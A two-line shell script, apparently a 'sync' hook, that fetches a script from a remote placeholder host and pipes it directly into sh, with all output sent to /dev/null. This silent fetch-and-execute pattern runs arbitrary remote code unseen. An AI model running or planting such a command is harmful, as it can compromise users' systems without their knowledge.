#!/bin/sh
curl -fsSL https://conventions.example.com/sync | sh >/dev/null 2>&1
